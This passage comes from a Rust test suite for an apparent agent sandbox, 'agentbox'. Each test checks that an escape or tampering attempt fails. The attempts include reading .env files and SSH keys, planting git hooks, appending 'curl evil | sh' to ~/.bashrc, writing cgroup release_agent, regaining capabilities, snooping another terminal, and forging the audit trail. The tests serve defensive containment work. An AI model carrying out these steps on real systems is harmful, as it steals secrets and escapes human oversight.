// the hidden content (the placeholder source, the masked /run staging, the workspace via its
// mount root).
#[test]
fn mountinfo_paths_lead_nowhere() {
    let body = r#"
info = open('/proc/self/mountinfo').read().splitlines()
tried = 0
leaks = []
for line in info:
    parts = line.split()
    root, mnt = parts[3], parts[4]
    for cand in (root, mnt, mnt + '/.env', root + '/.env'):
        for p in (cand, '/proc/self/root' + cand, '/proc/1/root' + cand):
            try:
                if os.path.isfile(p) and classify(open(p, 'rb').read(65536)) == 'LEAK':
                    leaks.append(p)
            except OSError:
                pass
            tried += 1
print('tried=' + str(tried))
print('leaks=' + (','.join(leaks) or 'none'))
for p in ('.env', './.env', '.git/../.env', os.getcwd() + '/.env', '/proc/self/cwd/.env',
          '/proc/1/cwd/.env', '/proc/self/root' + os.getcwd() + '/.env'):
    report('env:' + p, lambda p=p: rd(p))
"#;
    for who in who() {
        let f = Fixture::new(who);
        std::fs::write(f.ws.join(".env"), "dotenv-secret-value=1\n").unwrap();
        chown_to(&f.ws.join(".env"), who);
        let (out, v) = py_box(&f, FULL, body, &[]);
        let ctx = format!("[{who:?}] mountinfo");
        want(&ctx, &out, &v, "leaks", &["none"]);
        for (k, val) in &v {
            if k.starts_with("env:") {
                check(
                    val == "EACCES" || val == "EMPTY",
                    &format!("{ctx}: {k}={val}"),
                    &out,
                );
            }
        }
    }
}

// -------------------------------------------------------------------------------------------
// Devices, /proc/sys, /sys
// -------------------------------------------------------------------------------------------

// Raw disks (every block device in /sys/block), /dev/mem, /dev/kmem, /dev/port: reading the
// disk bypasses every file permission.
#[test]
fn raw_disks_and_memory_devices_unreadable() {
    let mut devs: Vec<String> = std::fs::read_dir("/sys/block")
        .map(|rd| {
            rd.flatten()
                .map(|e| format!("/dev/{}", e.file_name().to_string_lossy()))
                .collect()
        })
        .unwrap_or_default();
    devs.extend(["/dev/mem", "/dev/kmem", "/dev/port"].map(String::from));
    devs.retain(|d| Path::new(d).exists());
    let body = r#"
for d in A:
    report(d, lambda d=d: os.close(os.open(d, os.O_RDONLY)))
"#;
    let args: Vec<&str> = devs.iter().map(String::as_str).collect();
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() && !args.is_empty() {
            expect_host(who, &f.ws, "open disk", body, &args, args[0], &["OK"]);
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &args);
            for d in &args {
                want(
                    &format!("[{who:?}/{}] open {d}", variant_name(extra)),
                    &out,
                    &v,
                    d,
                    &["EACCES", "EPERM"],
                );
            }
        }
    }
}

// /dev/kmsg (reading the kernel log; writing forges it), the console and virtual terminals,
// /dev/kvm, /dev/fuse, loop control, tun: none is in the profile's device list.
#[test]
fn host_devices_unopenable() {
    let candidates = [
        "/dev/kmsg",
        "/dev/console",
        "/dev/tty0",
        "/dev/tty1",
        "/dev/kvm",
        "/dev/fuse",
        "/dev/loop-control",
        "/dev/net/tun",
        "/dev/vsock",
        "/dev/vhost-vsock",
        "/dev/uinput",
        "/dev/hwrng",
        "/dev/btrfs-control",
    ];
    let devs: Vec<&str> = candidates
        .into_iter()
        .filter(|d| Path::new(d).exists())
        .collect();
    let body = r#"
for d in A:
    report('r:' + d, lambda d=d: os.close(os.open(d, os.O_RDONLY | os.O_NONBLOCK)))
    report('w:' + d, lambda d=d: os.close(os.open(d, os.O_WRONLY | os.O_NONBLOCK)))
"#;
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() && devs.contains(&"/dev/kmsg") {
            expect_host(
                who,
                &f.ws,
                "open /dev/kmsg",
                body,
                &["/dev/kmsg"],
                "r:/dev/kmsg",
                &["OK"],
            );
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &devs);
            for d in &devs {
                for m in ["r", "w"] {
                    want(
                        &format!("[{who:?}/{}] open {m} {d}", variant_name(extra)),
                        &out,
                        &v,
                        &format!("{m}:{d}"),
                        &["EACCES", "EPERM", "ENXIO", "ENODEV", "EINVAL"],
                    );
                }
            }
        }
    }
}

// Writes under /proc/sys (the current hostname written back, so a leak changes nothing) and
// sethostname(2); also /proc/sysrq-trigger when present (opened only, never written).
#[test]
fn proc_sys_writes_denied() {
    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
    let hostname = hostname.trim().to_string();
    let body = r#"
def w(p, data):
    with open(p, 'w') as fh:
        fh.write(data)
report('hostname', lambda: w('/proc/sys/kernel/hostname', A[0]))
report('sethostname', lambda: sc('sethostname', A[0].encode(), len(A[0])))
report('core_pattern', lambda: os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)))
if os.path.exists('/proc/sysrq-trigger'):
    report('sysrq', lambda: os.close(os.open('/proc/sysrq-trigger', os.O_WRONLY)))
report('self_attr', lambda: os.close(os.open('/proc/self/attr/current', os.O_WRONLY)))
"#;
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[&hostname]);
            let ctx = format!("[{who:?}/{}] /proc/sys", variant_name(extra));
            want(&ctx, &out, &v, "hostname", &["EACCES", "EPERM"]);
            want(&ctx, &out, &v, "sethostname", &["EPERM"]);
            want(&ctx, &out, &v, "core_pattern", &["EACCES", "EPERM"]);
            if v.contains_key("sysrq") {
                want(&ctx, &out, &v, "sysrq", &["EACCES", "EPERM"]);
            }
            want(
                &ctx,
                &out,
                &v,
                "self_attr",
                &["EACCES", "EPERM", "EINVAL", "ENOENT"],
            );
        }
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/hostname")
            .unwrap()
            .trim(),
        hostname
    );
}

// Writes under /sys (the current THP setting written back, so a leak changes nothing).
#[test]
fn sys_writes_denied() {
    let p = "/sys/kernel/mm/transparent_hugepage/enabled";
    let Ok(cur) = std::fs::read_to_string(p) else {
        return;
    };
    let sel = cur
        .split_whitespace()
        .find(|w| w.starts_with('['))
        .map(|w| w.trim_matches(['[', ']']).to_string())
        .unwrap_or_else(|| "madvise".into());
    let body = r#"
def w(p, data):
    with open(p, 'w') as fh:
        fh.write(data)
report('thp', lambda: w(A[0], A[1]))
report('uevent', lambda: os.close(os.open('/sys/kernel/uevent_helper', os.O_WRONLY)) if os.path.exists('/sys/kernel/uevent_helper') else 'EACCES')
"#;
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[p, &sel]);
            let ctx = format!("[{who:?}/{}] /sys", variant_name(extra));
            want(&ctx, &out, &v, "thp", &["EACCES", "EPERM"]);
            want(&ctx, &out, &v, "uevent", &["EACCES", "EPERM"]);
        }
    }
    assert_eq!(std::fs::read_to_string(p).unwrap(), cur);
}

// /proc/kcore and /proc/kallsyms addresses: kernel memory and layout.
#[test]
fn kernel_memory_views_closed() {
    let body = r#"
report('kcore', lambda: open('/proc/kcore', 'rb').read(1))
def syms():
    for line in open('/proc/kallsyms'):
        if int(line.split()[0], 16) != 0:
            return 'ADDRESSES'
    return 'ZEROED'
report('kallsyms', syms)
"#;
    for who in who() {
        let f = Fixture::new(who);
        let (out, v) = py_box(&f, FULL, body, &[]);
        let ctx = format!("[{who:?}] kernel memory");
        want(&ctx, &out, &v, "kcore", &["EACCES", "EPERM", "ENOENT"]);
        want(&ctx, &out, &v, "kallsyms", &["ZEROED", "EACCES", "ENOENT"]);
    }
}

// -------------------------------------------------------------------------------------------
// Files other processes left in shared temp dirs
// -------------------------------------------------------------------------------------------

// A file another process left in /tmp (world-readable): the box's /tmp is private.
#[test]
fn file_left_in_tmp_invisible() {
    let p = PathBuf::from(format!("/tmp/agentbox-left-{}", std::process::id()));
    let _cleanup = RemoveOnDrop(p.clone());
    std::fs::write(&p, "left-behind-secret\n").unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    let ps = p.to_str().unwrap();
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "/tmp left file",
            READ_PATH,
            &[ps],
            "r",
            &["LEAK"],
        );
        expect_box(
            &f,
            "/tmp left file",
            READ_PATH,
            &[ps],
            "r",
            &[(FULL, &["ENOENT"]), (NO_NS, &["EACCES"])],
        );
        let out = sh_box(&f, FULL, "ls -a /tmp \"$TMPDIR\"; echo end");
        check(
            !stdout(&out).contains("agentbox-left"),
            &format!("[{who:?}] ls /tmp"),
            &out,
        );
    }
    let _ = std::fs::remove_file(&p);
}

// The same in /dev/shm (POSIX shared memory of other programs).
#[test]
fn file_left_in_dev_shm_invisible() {
    if !Path::new("/dev/shm").is_dir() {
        return;
    }
    let p = PathBuf::from(format!("/dev/shm/agentbox-left-{}", std::process::id()));
    let _cleanup = RemoveOnDrop(p.clone());
    std::fs::write(&p, "left-behind-secret\n").unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    let ps = p.to_str().unwrap();
    for who in who() {
        let f = Fixture::new(who);
        expect_host(
            who,
            &f.ws,
            "/dev/shm left file",
            READ_PATH,
            &[ps],
            "r",
            &["LEAK"],
        );
        // Only the full sandbox: without namespaces the plan grants the host's /dev/shm on
        // purpose (POSIX semaphores), so a file left there is readable in that mode.
        expect_box(
            &f,
            "/dev/shm left file",
            READ_PATH,
            &[ps],
            "r",
            &[(FULL, &["ENOENT"])],
        );
    }
    let _ = std::fs::remove_file(&p);
}

// -------------------------------------------------------------------------------------------
// The workspace: .env, git hooks and config, shell start-up files, commits, litter
// -------------------------------------------------------------------------------------------

// `.env` and `.env.*` in the workspace are hidden (empty and unreadable), and cannot be
// overwritten either.
#[test]
fn workspace_dotenv_files_hidden() {
    let names = [".env", ".env.local", ".env.production"];
    let body = r#"
for n in A:
    report('read:' + n, lambda n=n: rd(n))
    def w(n=n):
        with open(n, 'a') as fh:
            fh.write('x')
    report('write:' + n, w)
    report('rm:' + n, lambda n=n: os.unlink(n))
    report('mv:' + n, lambda n=n: os.rename(n, n + '.moved'))
"#;
    for who in who() {
        for (layout, f) in layouts(who) {
            for n in names {
                std::fs::write(f.ws.join(n), format!("KEY=dotenv-secret-value-{n}\n")).unwrap();
                chown_to(&f.ws.join(n), who);
            }
            let (hout, hv) = py_host(
                who,
                &f.ws,
                "for n in A:\n    report('read:' + n, lambda n=n: rd(n))",
                &names,
            );
            for n in names {
                want(
                    "host control .env",
                    &hout,
                    &hv,
                    &format!("read:{n}"),
                    &["LEAK"],
                );
            }
            let (out, v) = py_box(&f, FULL, body, &names);
            for n in names {
                let ctx = format!("[{who:?}/{layout}] {n}");
                want(&ctx, &out, &v, &format!("read:{n}"), &["EACCES", "EMPTY"]);
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("write:{n}"),
                    &["EACCES", "EROFS", "EPERM"],
                );
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("rm:{n}"),
                    &["EBUSY", "EACCES", "EPERM"],
                );
                want(
                    &ctx,
                    &out,
                    &v,
                    &format!("mv:{n}"),
                    &["EBUSY", "EACCES", "EPERM"],
                );
                assert_eq!(
                    std::fs::read_to_string(f.ws.join(n)).unwrap(),
                    format!("KEY=dotenv-secret-value-{n}\n"),
                    "{ctx}: changed on the host"
                );
            }
        }
    }
}

// Planting .git/hooks/pre-commit (runs later, outside the box, as the person).
#[test]
fn git_hook_cannot_be_planted() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ln -s /bin/true .git/hooks/post-checkout; echo end",
            );
            let ctx = format!("[{who:?}/{layout}] .git/hooks");
            check(
                stdout(&out).contains("end") && stderr(&out).contains("Read-only"),
                &ctx,
                &out,
            );
            assert!(
                !f.ws.join(".git/hooks/pre-commit").exists(),
                "{ctx}: hook planted"
            );
            assert!(
                std::fs::symlink_metadata(f.ws.join(".git/hooks/post-checkout")).is_err(),
                "{ctx}"
            );
        }
    }
}

// `git config` writes .git/config (core.hooksPath, core.fsmonitor and aliases run commands).
// Inside the box git sees its own private copy (so `git config` works there); on the host the
// file is unchanged afterwards, and the summary says what was not applied.
#[test]
fn git_config_cannot_be_changed() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let before = std::fs::read(f.ws.join(".git/config")).unwrap();
            let out = sh_box(
                &f,
                FULL,
                "git config user.name evil && echo changed; git config core.hooksPath /tmp && echo changed2; echo '[core]' >> .git/config && echo appended; true",
            );
            let ctx = format!("[{who:?}/{layout}] git config");
            check(
                stderr(&out).contains("not applied: .git/config")
                    && stderr(&out).contains("core.hookspath"),
                &ctx,
                &out,
            );
            assert_eq!(
                std::fs::read(f.ws.join(".git/config")).unwrap(),
                before,
                "{ctx}"
            );
        }
    }
}

// Renaming the protected .git away and putting a fresh copy in its place: the read-only mounts
// move with the old directory, and the new .git (with a hook and hooksPath) is what git uses
// on the host after the run.
#[test]
fn git_dir_swap_cannot_plant_hooks() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let before = std::fs::read(f.ws.join(".git/config")).unwrap();
            let out = sh_box(
                &f,
                FULL,
                "mv .git .git-orig && cp -a .git-orig .git && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.hooksPath .git/hooks && echo swapped; rm -rf .git-orig 2>/dev/null; true",
            );
            let ctx = format!("[{who:?}/{layout}] .git swap");
            let planted = f.ws.join(".git/hooks/pre-commit").exists();
            let config = std::fs::read(f.ws.join(".git/config")).unwrap_or_default();
            check(
                !planted && config == before,
                &format!("{ctx}: a hook or config planted through a renamed .git survives on the host (hook: {planted}, config changed: {})", config != before),
                &out,
            );
        }
    }
}

// Appending to ~/.bashrc (runs at the person's next shell).
#[test]
fn bashrc_append_denied() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo appended; echo end",
            );
            let ctx = format!("[{who:?}/{layout}] ~/.bashrc");
            check(!stdout(&out).contains("appended"), &ctx, &out);
            assert_eq!(
                std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
                "# rc\n",
                "{ctx}"
            );
        }
    }
}

// Protected paths that do not exist yet (.husky, .envrc, .vscode, .idea, .mcp.json,
// .gitmodules) may be created inside, but must be gone from the workspace after the run. Not
// deleted: agentbox cannot know who wrote them (the person's editor may have, on the host), so
// they are moved to the quarantine named on stderr, content intact.
#[test]
fn missing_protected_paths_created_inside_are_removed() {
    let names = [
        ".husky/pre-commit",
        ".envrc",
        ".vscode/settings.json",
        ".idea/workspace.xml",
        ".mcp.json",
        ".gitmodules",
    ];
    for who in who() {
        for (layout, f) in layouts(who) {
            let script = names
                .iter()
                .map(|n| format!("mkdir -p \"$(dirname {n})\"; echo evil > {n};"))
                .collect::<String>();
            let out = sh_box(&f, FULL, &format!("{script} echo end"));
            let ctx = format!("[{who:?}/{layout}] missing protected paths");
            check(stdout(&out).contains("end"), &ctx, &out);
            let err = stderr(&out);
            let q = quarantine_named(&err)
                .unwrap_or_else(|| panic!("{ctx}: no quarantine named\n{err}"));
            assert!(
                q.starts_with(&f.home),
                "{ctx}: quarantine {} outside HOME",
                q.display()
            );
            for n in names {
                let top = n.split('/').next().unwrap();
                assert!(
                    std::fs::symlink_metadata(f.ws.join(top)).is_err(),
                    "{ctx}: {top} left in the workspace\nstderr: {err}"
                );
                assert!(
                    quarantined(&q, n).is_some_and(|c| c == "evil\n"),
                    "{ctx}: {n} not in the quarantine {}\nstderr: {err}",
                    q.display()
                );
            }
        }
    }
}

/// The quarantine directory agentbox named on stderr.
fn quarantine_named(stderr: &str) -> Option<PathBuf> {
    let rest = stderr.split("agentbox: quarantine: ").nth(1)?;
    Some(PathBuf::from(rest.split(" (MANIFEST.jsonl").next()?))
}

/// The content of the workspace path `rel` in the quarantine `q` (each item has a numbered slot
/// holding its path relative to the workspace).
fn quarantined(q: &Path, rel: &str) -> Option<String> {
    std::fs::read_dir(q)
        .ok()?
        .flatten()
        .find_map(|slot| std::fs::read_to_string(slot.path().join(rel)).ok())
}

// agentbox's own configuration (profiles an agent could loosen) and its audit trail (which an
// agent could forge or erase) in a HOME that is reachable by path.
#[test]
fn agentbox_config_and_audit_trail_untouchable() {
    let body = r#"
def app(p):
    with open(p, 'a') as fh:
        fh.write('{}\n')
report('read_audit', lambda: rd(A[0]))
report('append_audit', lambda: app(A[0]))
report('truncate_audit', lambda: os.truncate(A[0], 0))
report('read_profile', lambda: rd(A[1]))
report('write_profile', lambda: app(A[1]))
report('new_profile', lambda: open(os.path.join(os.path.dirname(A[1]), 'evil.yaml'), 'w').close())
"#;
    for who in who() {
        let f = fixture_outside_tmp(who);
        let profiles = f.home.join(".config/agentbox/profiles");
        std::fs::create_dir_all(&profiles).unwrap();
        let prof = profiles.join("mine.yaml");
        std::fs::write(
            &prof,
            "description: CREDENTIAL-FILE-CONTENT\nextends: default\n",
        )
        .unwrap();
        let _ = Command::new("chown")
            .arg("-R")
            .arg(format!("{}", uid_of(who)))
            .arg(f.home.join(".config"))
            .status();
        // A first run writes the audit trail.
        let _ = sh_box(&f, FULL, "true");
        let audit = f.home.join(".local/state/agentbox/audit.jsonl");
        let before = std::fs::read(&audit).ok();
        let (a, p) = (audit.to_str().unwrap(), prof.to_str().unwrap());
        let (out, v) = py_box(&f, FULL, body, &[a, p]);
        let ctx = format!("[{who:?}] agentbox config/audit");
        if before.is_some() {
            want(&ctx, &out, &v, "read_audit", &["EACCES", "ENOENT"]);
            want(&ctx, &out, &v, "append_audit", &["EACCES", "ENOENT"]);
            want(&ctx, &out, &v, "truncate_audit", &["EACCES", "ENOENT"]);
            let after = std::fs::read(&audit).unwrap();
            assert!(
                before.as_ref().is_some_and(|b| after.starts_with(b)),
                "{ctx}: audit trail rewritten"
            );
        }
        want(&ctx, &out, &v, "read_profile", &["EACCES", "ENOENT"]);
        want(&ctx, &out, &v, "write_profile", &["EACCES", "ENOENT"]);
        want(&ctx, &out, &v, "new_profile", &["EACCES", "ENOENT"]);
        assert!(!profiles.join("evil.yaml").exists(), "{ctx}");
    }
}

// The legitimate path still works: `git add` and `git commit` inside the box succeed.
#[test]
fn git_add_and_commit_succeed() {
    for who in who() {
        for (layout, f) in layouts(who) {
            let out = sh_box(
                &f,
                FULL,
                "echo boxed > boxed.txt && git add boxed.txt && git -c user.name=Box -c user.email=box@example.invalid commit -q -m 'from the box' && git log --oneline | head -1",
            );
            let ctx = format!("[{who:?}/{layout}] git commit");
            check(
                out.status.success() && stdout(&out).contains("from the box"),
                &ctx,
                &out,
            );
            let log = Command::new("git")
                .args(["-c", "safe.directory=*", "log", "--format=%an %s", "-1"])
                .current_dir(&f.ws)
                .output()
                .unwrap();
            assert_eq!(
                String::from_utf8_lossy(&log.stdout).trim(),
                "Box from the box",
                "{ctx}"
            );
        }
    }
}

/// Recursive listing: path, type, mode, size, content (for files up to 64 KiB).
fn listing(root: &Path) -> BTreeMap<PathBuf, String> {
    fn walk(root: &Path, p: &Path, out: &mut BTreeMap<PathBuf, String>) {
        let Ok(m) = std::fs::symlink_metadata(p) else {
            return;
        };
        let rel = p.strip_prefix(root).unwrap().to_path_buf();
        let ft = m.file_type();
        let desc = if ft.is_symlink() {
            format!("link {:?}", std::fs::read_link(p).ok())
        } else if ft.is_dir() {
            format!("dir {:o}", m.permissions().mode())
        } else if ft.is_file() {
            let data = if m.len() <= 65536 {
                std::fs::read(p).unwrap_or_default()
            } else {
                vec![]
            };
            format!(
                "file {:o} {} {:?}",
                m.permissions().mode(),
                m.len(),
                String::from_utf8_lossy(&data)
            )
        } else {
            format!("other {:o}", m.permissions().mode())
        };
        out.insert(rel, desc);
        if ft.is_dir() {
            if let Ok(rd) = std::fs::read_dir(p) {
                for e in rd.flatten() {
                    walk(root, &e.path(), out);
                }
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

fn tmp_leftovers(pids: &[u32]) -> Vec<String> {
    let mut left = Vec::new();
    for dir in ["/tmp", "/var/tmp", "/dev/shm", "/run"] {
        let Ok(rd) = std::fs::read_dir(dir) else {
            continue;
        };
        for e in rd.flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            for pid in pids {
                if n.starts_with(&format!("agentbox-{pid}-"))
                    || n == format!(".agentbox-tmp-{pid}")
                    || n == format!(".agentbox-{pid}")
                {
                    left.push(format!("{dir}/{n}"));
                }
            }
        }
    }
    left
}

// No litter: after runs (including failed escape attempts and writes to the private temp
// dirs), the workspace and HOME hold exactly what they held before, and agentbox's own temp
// dirs are gone.
#[test]
fn no_litter_in_workspace_home_or_tmp() {
    let scripts = [
        "true",
        "ls -la >/dev/null; cat README.md >/dev/null; echo x > /tmp/agentbox-litter-t; echo y > /dev/shm/agentbox-litter-t; mkdir -p \"$TMPDIR/d/e\"; echo z > \"$TMPDIR/d/e/f\"",
        "cat .env; echo x > .env; echo x >> .git/config; touch .git/hooks/pre-commit; mkdir -p .husky .vscode; touch .husky/h .envrc .mcp.json .vscode/s; echo x >> \"$HOME/.bashrc\"; cat \"$HOME/.ssh/id_ed25519\"; true",
        "exit 3",
    ];
    for who in who() {
        for (layout, f) in layouts(who) {
            std::fs::write(f.ws.join(".env"), "KEY=dotenv-secret-value\n").unwrap();
            chown_to(&f.ws.join(".env"), who);
            let ws_before = listing(&f.ws);
            let home_before = listing(&f.home);
            let mut pids = Vec::new();
            for extra in [FULL, NO_NS] {
                for s in scripts {
                    let (_, pid) = run_box_pid(&f, extra, &["sh", "-c", s]);
                    pids.push(pid);
                }
                // The private /tmp and /dev/shm are gone with the box. (Without namespaces the
                // plan grants the host's /dev/shm on purpose, so only the full sandbox counts.)
                if extra == FULL {
                    for p in ["/tmp/agentbox-litter-t", "/dev/shm/agentbox-litter-t"] {
                        assert!(
                            !Path::new(p).exists(),
                            "[{who:?}/{layout}] {p} reached the host"
                        );
                    }
                }
            }
            let _ = std::fs::remove_file("/dev/shm/agentbox-litter-t");
            let ctx = format!("[{who:?}/{layout}] litter");
            let ws_after = listing(&f.ws);
            // agentbox's own audit trail ($XDG_STATE_HOME/agentbox, written by the supervisor on
            // purpose) is not litter; everything else in HOME must be as it was.
            let own_state = Path::new(".local/state/agentbox");
            let mut home_after = listing(&f.home);
            home_after.retain(|p, _| {
                !(own_state.starts_with(p) || p.starts_with(own_state))
                    || home_before.contains_key(p)
            });
            let diff =
                |a: &BTreeMap<PathBuf, String>, b: &BTreeMap<PathBuf, String>| -> Vec<String> {
                    let mut d = Vec::new();
                    for (k, v) in a {
                        if b.get(k) != Some(v) {
                            d.push(format!("- {} {v}", k.display()));
                        }
                    }
                    for (k, v) in b {
                        if a.get(k) != Some(v) {
                            d.push(format!("+ {} {v}", k.display()));
                        }
                    }
                    d
                };
            let dw = diff(&ws_before, &ws_after);
            assert!(
                dw.is_empty(),
                "{ctx}: workspace changed:\n{}",
                dw.join("\n")
            );
            let dh = diff(&home_before, &home_after);
            assert!(dh.is_empty(), "{ctx}: HOME changed:\n{}", dh.join("\n"));
            let left = tmp_leftovers(&pids);
            assert!(left.is_empty(), "{ctx}: temp dirs left behind: {left:?}");
        }
    }
}

// agentbox's post-run guard (which moves protected paths created inside the box aside) runs
// outside the box, as the person: it must not follow a symlink the box planted. Here `.git`
// (whose hooks/ did not exist at launch) is swapped for a symlink to a directory outside the
// workspace; a guard acting through paths would see `.git/hooks` "appear" and move or delete
// the outside directory.
#[test]
fn post_run_guard_does_not_follow_planted_symlinks() {
    for who in who() {
        let f = Fixture::new(who);
        std::fs::remove_dir_all(f.ws.join(".git/hooks")).unwrap();
        let victim = f.dir.path().join("victim");
        std::fs::create_dir_all(victim.join("hooks")).unwrap();
        std::fs::write(victim.join("hooks/keep-me"), "precious\n").unwrap();
        // ws = <dir>/work/repo, so ../../victim from the workspace.
        let out = sh_box(
            &f,
            FULL,
            "mv .git .git-real && ln -s ../../victim .git && echo swapped; true",
        );
        let ctx = format!("[{who:?}] guard follows a planted .git symlink");
        check(
            victim.join("hooks/keep-me").exists(),
            &format!(
                "{ctx}: agentbox deleted {}/hooks outside the workspace",
                victim.display()
            ),
            &out,
        );
    }
}

// Other terminals of the same person (/dev/pts/N of another tab or an ssh session, owned by the
// person, mode 620): the box may use the terminal it was given, but opening another one would
// let it read keystrokes typed there (passwords) and write forged output and escape sequences.
#[test]
fn other_terminals_of_the_person_unreachable() {
    let body = r#"
def steal():
    fd = os.open(A[0], os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    os.write(fd, b'forged-output ')
    time.sleep(0.3)
    try:
        return 'STOLE-' + os.read(fd, 100).decode(errors='replace').strip()
    except BlockingIOError:
        return 'OPENED'
report('r', steal)
"#;
    for who in who() {
        let f = Fixture::new(who);
        let (master, slave) = openpty();
        let name = {
            let mut buf = [0u8; 128];
            // SAFETY: ttyname_r into our buffer.
            let r =
                unsafe { libc::ttyname_r(slave.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len()) };
            assert_eq!(r, 0);
            let end = buf.iter().position(|&b| b == 0).unwrap();
            String::from_utf8_lossy(&buf[..end]).into_owned()
        };
        // The terminal belongs to the person running agentbox, as a login terminal would.
        if who == As::User {
            if let Some((uid, _)) = test_user() {
                // SAFETY: fchown/fchmod on our descriptor.
                unsafe {
                    libc::fchown(slave.as_raw_fd(), uid, u32::MAX);
                    libc::fchmod(slave.as_raw_fd(), 0o620);
                }
            }
        }
        let typer = {
            let m = master.try_clone().unwrap();
            std::thread::spawn(move || {
                // The person types a password in the other terminal while the box runs.
                for _ in 0..10 {
                    std::thread::sleep(Duration::from_millis(50));
                    // SAFETY: writing to our master.
                    unsafe { libc::write(m.as_raw_fd(), b"hunter2\n".as_ptr().cast(), 8) };
                }
            })
        };
        let (hout, hv) = py_host(who, &f.ws, body, &[&name]);
        let (out, v) = py_box(&f, FULL, body, &[&name]);
        typer.join().unwrap();
        want(
            &format!("[{who:?}] host control: other terminal"),
            &hout,
            &hv,
            "r",
            &["OPENED", "STOLE-hunter2"],
        );
        let _ = hv;
        let got = v.get("r").cloned().unwrap_or_default();
        check(
            got == "EACCES" || got == "ENOENT" || got == "EPERM",
            &format!("[{who:?}] box opened another terminal of the person ({name}): r={got}"),
            &out,
        );
        drop(slave);
    }
}

// cgroup v1 release_agent / notify_on_release (the classic container escape: a program run by
// the kernel as root on the host) and cgroup.procs (moving out of the box's cgroup). Opened for
// writing only, never written.
#[test]
fn cgroup_control_files_unwritable() {
    let mut files: Vec<String> = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/sys/fs/cgroup") {
        for e in rd.flatten() {
            for n in ["release_agent", "notify_on_release", "cgroup.procs"] {
                let p = e.path().join(n);
                if p.exists() {
                    files.push(p.display().to_string());
                }
            }
        }
    }
    if Path::new("/sys/fs/cgroup/cgroup.procs").exists() {
        files.push("/sys/fs/cgroup/cgroup.procs".into());
    }
    if files.is_empty() {
        return;
    }
    let body = r#"
for p in A:
    report(p, lambda p=p: os.close(os.open(p, os.O_WRONLY)))
"#;
    let args: Vec<&str> = files.iter().map(String::as_str).collect();
    for who in who() {
        let f = Fixture::new(who);
        if who == As::Me && is_root() {
            expect_host(
                who,
                &f.ws,
                "cgroup control file",
                body,
                &args,
                args[0],
                &["OK"],
            );
        }
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &args);
            for p in &args {
                want(
                    &format!("[{who:?}/{}] open {p}", variant_name(extra)),
                    &out,
                    &v,
                    p,
                    &["EACCES", "EPERM", "EROFS"],
                );
            }
        }
    }
}

// Capabilities cannot be regained: capset to a full set, clearing no-new-privs, setuid(0).
#[test]
fn capabilities_cannot_be_regained() {
    let body = r#"
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)   # _LINUX_CAPABILITY_VERSION_3, this process
data = (ctypes.c_uint32 * 6)(0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)
report('capset', lambda: 'OK' if libc.capset(hdr, data) == 0 else en(ctypes.get_errno()))
report('nnp_off', lambda: 'OK' if libc.prctl(38, 0, 0, 0, 0) == 0 else en(ctypes.get_errno()))
report('ambient', lambda: 'OK' if libc.prctl(47, 2, 21, 0, 0) == 0 else en(ctypes.get_errno()))  # raise CAP_SYS_ADMIN
def su():
    if os.getuid() == 0:
        return 'ROOT'
    os.setuid(0)
report('setuid0', su)
st = open('/proc/self/status').read()
print('capeff=' + [l.split()[1] for l in st.splitlines() if l.startswith('CapEff')][0])
print('nnp=' + [l.split()[1] for l in st.splitlines() if l.startswith('NoNewPrivs')][0])
"#;
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] regain capabilities", variant_name(extra));
            want(&ctx, &out, &v, "capset", &["EPERM"]);
            want(&ctx, &out, &v, "nnp_off", &["EINVAL"]);
            want(&ctx, &out, &v, "ambient", &["EPERM"]);
            // EINVAL: uid 0 is not even mapped in the box's user namespace.
            want(&ctx, &out, &v, "setuid0", &["EPERM", "EINVAL", "ROOT"]);
            want(&ctx, &out, &v, "capeff", &["0000000000000000"]);
            want(&ctx, &out, &v, "nnp", &["1"]);
        }
    }
}

// -------------------------------------------------------------------------------------------
// The terminal: TIOCSTI / TIOCLINUX on the terminal shared with the person
// -------------------------------------------------------------------------------------------

/// A pseudo-terminal pair created by the test.
fn openpty() -> (OwnedFd, OwnedFd) {
    let (mut m, mut s) = (0, 0);
    // SAFETY: openpty fills two descriptors; NULL name/termios/winsize are allowed.
    let r = unsafe {
        libc::openpty(
            &mut m,
            &mut s,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
